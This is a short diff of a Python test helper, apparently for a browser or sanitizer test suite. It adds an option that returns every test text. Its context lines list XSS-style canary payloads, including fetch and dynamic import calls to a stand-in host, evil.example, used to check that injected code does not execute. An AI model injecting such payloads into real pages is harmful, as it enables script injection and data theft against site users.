@@ -6,6 +6,7 @@ What could be executed sets the global variable `CANARY`, opens a dialog or call
 import itertools
 
 from tests.browser.visitor import CANARY
+from tests.examples import all_wanted
 
 _SET = f"window.{CANARY}=1"
 _CODE = (_SET, f"alert('{CANARY}')", "fetch('//evil.example/')", "import('//evil.example/x.js')")
@@ -151,7 +152,12 @@ def texts() -> list[str]:
 
 
 def kinds() -> list[str]:
-    """Each kind of text once, and not with every element and every end of what may be around it."""
+    """Each kind of text once, and not with every element and every end of what may be around it.
+
+    All texts where all examples are wanted.
+    """
+    if all_wanted():
+        return texts()
     code = itertools.cycle(_CODE)
     forms = [
         *_LINKS,
